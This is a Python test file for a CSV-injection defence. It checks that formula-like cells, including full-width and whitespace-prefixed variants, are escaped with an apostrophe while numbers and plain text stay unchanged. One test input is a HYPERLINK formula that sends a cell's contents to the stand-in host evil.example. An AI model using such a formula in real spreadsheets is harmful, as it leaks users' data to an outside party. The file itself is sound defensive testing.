"""Spreadsheet-safe cells (OWASP "CSV injection"): formula-like text escaped, numbers left numbers. No database."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.domain.spreadsheet import is_formula_like, spreadsheet_cell, write_csv


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"报销\")", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫SUM(1)", "  =1+1", "\u3000=1+1",
])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert is_formula_like(text)
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "华北销售部", "2026/ORG:SALES-N/TRAVEL", "1-2", "a=b", "E0001", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_cell(text) == text


def test_numbers_stay_numbers_negative_ones_included():
    assert spreadsheet_cell(Decimal("-1280.50")) == "-1280.50"
    assert spreadsheet_cell(Decimal("1E+3")) == "1000"  # plain digits: a spreadsheet would read 1E+3 as text
    assert spreadsheet_cell(-7) == "-7"
    assert spreadsheet_cell(None) == "" and spreadsheet_cell(True) == "true"
    assert spreadsheet_cell(datetime(2026, 3, 1, 8, 30, tzinfo=UTC)) == "2026-03-01T08:30:00+00:00"
    with pytest.raises(TypeError):
        spreadsheet_cell(1.5)


def test_write_csv_escapes_every_text_cell_and_quotes_as_csv_needs():
    out = io.StringIO(newline="")
    written = write_csv(out, ["name", "amount"], [["=1+1", Decimal("-5.00")], ['say "hi", @you', Decimal("2")]])
    assert written == 2
    assert out.getvalue() == 'name,amount\r\n\'=1+1,-5.00\r\n"say ""hi"", @you",2\r\n'


@given(st.text())
def test_no_escaped_cell_can_start_a_formula_and_the_apostrophe_is_all_that_was_added(text):
    cell = spreadsheet_cell(text)
    assert not is_formula_like(cell)
    assert cell == text or cell == "'" + text


@given(st.lists(st.lists(st.one_of(st.text(), st.decimals(allow_nan=False, allow_infinity=False)), min_size=1,
                         max_size=4), max_size=5))
def test_a_csv_written_reads_back_cell_for_cell(rows):
    out = io.StringIO(newline="")
    write_csv(out, ["h"], rows)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read == [["h"]] + [[spreadsheet_cell(v) for v in row] for row in rows]
